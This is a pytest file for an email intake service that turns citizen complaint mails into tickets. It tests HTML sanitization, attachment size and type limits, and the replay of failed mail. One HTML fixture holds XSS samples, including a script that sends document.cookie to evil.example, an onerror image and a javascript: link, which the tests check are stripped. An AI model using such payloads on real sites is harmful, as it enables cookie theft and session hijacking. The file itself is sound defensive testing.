"""What a mail carries: HTML bodies (kept raw, sanitized, indexed as text), attachments within the
limits, and mail that cannot be read (kept, failed, replayed by `flask mail-replay`)."""

from __future__ import annotations

from typing import Any

from sqlalchemy import select

import channels.email.process as process_module
from channels.email.mime import MailParseError, decode_raw
from service.models import Attachment, InboundEmail, InboundMessage, Ticket, TicketEvent
from tests.channels_email.mails import mail, png

HTML = (
    "<html><head><style>p {color: red}</style><script>alert('head')</script></head><body>"
    '<p onclick="steal()">Cống thoát nước <b>bị tắc</b> ở đường Hùng Vương,<br>nước tràn lên '
    "vỉa hè.</p><script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<img src=x onerror=alert(1)><a href="javascript:alert(2)">xem ảnh</a>'
    '<a href="https://maps.example.com/hv">bản đồ</a></body></html>'
)


def _only_ticket(app: Any, db: Any) -> Ticket:
    ticket = db.session.scalars(select(Ticket)).one()
    return ticket


def test_html_only_mail(app, db, imap, intake):
    raw = mail(subject="Cống thoát nước bị tắc", text=None, html=HTML)
    imap.append(raw)
    intake()
    with app.app_context():
        ticket = _only_ticket(app, db)
        assert ticket.description.startswith("Cống thoát nước bị tắc ở đường Hùng Vương,\nnước")
        for bad in ("alert", "script", "document.cookie", "evil.example", "color: red"):
            assert bad not in ticket.description
        record = db.session.scalars(select(InboundEmail)).one()
        assert (
            "<b>bị tắc</b>" in record.html and 'href="https://maps.example.com/hv"' in record.html
        )
        for bad in ("<script", "alert", "onclick", "onerror", "javascript:", "<img", "<style"):
            assert bad not in record.html
        # The raw MIME is kept exactly (Dovecot hands it back with CRLF line ends).
        payload = db.session.scalars(
            select(InboundMessage.payload).where(InboundMessage.payload.is_not(None))
        ).one()
        assert decode_raw(payload).replace(b"\r\n", b"\n") == raw.replace(b"\r\n", b"\n")
        db.session.remove()


def test_attachments_outside_the_limits_are_left_out_with_a_note(app, db, imap, intake,
                                                                  monkeypatch):  # fmt: skip
    monkeypatch.setitem(app.config, "MAX_ATTACHMENT_BYTES", 50_000)
    photo = png(8)
    imap.append(mail(attachments=[
        ("anh-hien-truong.png", "image/png", photo),
        ("hoa-don.pdf", "application/pdf", b"MZ\x90\x00\x03" + b"\x00" * 400),  # a program
        ("ban-ve.pdf", "application/pdf", b"%PDF-1.4\n" + b"0" * 60_000),  # too large
    ]))  # fmt: skip
    intake()
    with app.app_context():
        ticket = _only_ticket(app, db)
        files = db.session.scalars(
            select(Attachment).where(Attachment.ticket_id == ticket.id)
        ).all()
        assert [(f.filename, f.content_type, f.size) for f in files] == [
            ("anh-hien-truong.png", "image/png", len(photo))
        ]
        [note] = db.session.scalars(select(TicketEvent).where(TicketEvent.kind == "note")).all()
        assert not note.public and note.actor_label == "system"
        assert "hoa-don.pdf" in note.body and "ban-ve.pdf" in note.body
        assert "anh-hien-truong.png" not in note.body
        db.session.remove()


def _failed(app: Any, db: Any) -> list[tuple[int, str | None]]:
    with app.app_context():
        rows = db.session.execute(
            select(InboundMessage.id, InboundMessage.error).where(InboundMessage.state == "failed")
        ).all()
        db.session.remove()
        return [tuple(r) for r in rows]


def test_unreadable_mail_is_kept_and_can_be_replayed(app, db, imap, intake):
    garbage = b"this is not a mail message at all\r\njust some bytes \xff\xfe\r\n"
    imap.append(garbage)
    intake()
    [(inbound_id, error)] = _failed(app, db)
    assert error.startswith("unparseable mail: no header section")
    with app.app_context():
        payload = db.session.get(InboundMessage, inbound_id).payload
        db.session.remove()
    assert decode_raw(payload).rstrip(b"\r\n") == garbage.rstrip(b"\r\n")
    assert [f for _, f in imap.messages()] == ["\\Seen"]  # kept in the database, not re-fetched

    runner = app.test_cli_runner()
    listing = runner.invoke(args=["mail-replay"])
    assert f"{inbound_id}\t" in listing.output and "1 failed mail(s)" in listing.output
    again = runner.invoke(args=["mail-replay", "--id", str(inbound_id)])
    assert f"{inbound_id}: failed again: unparseable mail" in again.output
    assert len(_failed(app, db)) == 1


def test_mail_that_failed_is_replayed_after_a_fix(app, db, imap, intake, monkeypatch):
    def broken(raw: bytes, own: Any = None) -> Any:
        raise MailParseError("a parser bug")

    with monkeypatch.context() as patch:
        patch.setattr(process_module, "parse", broken)
        imap.append(mail())
        intake()
    [(inbound_id, error)] = _failed(app, db)
    assert error == "unparseable mail: a parser bug"

    # The bug is fixed (the patch is gone): replay turns the kept mail into its ticket.
    result = app.test_cli_runner().invoke(args=["mail-replay", "--all-failed"])
    assert f"{inbound_id}: processed" in result.output
    assert _failed(app, db) == []
    with app.app_context():
        assert _only_ticket(app, db).title == "Đèn đường hỏng ở kiệt 45 Lê Duẩn"
        assert db.session.get(InboundMessage, inbound_id).state == "processed"
        db.session.remove()
    # A message that is not failed is left alone.
    result = app.test_cli_runner().invoke(args=["mail-replay", "--id", str(inbound_id)])
    assert "not failed (state processed)" in result.output


def test_mail_without_a_sender_is_kept_as_failed(app, db, imap, intake):
    imap.append(b"Subject: no sender here\r\nTo: pakn@test.localhost\r\n\r\nHello there\r\n")
    intake()
    [(_, error)] = _failed(app, db)
    assert error == "unparseable mail: no sender address (From)"
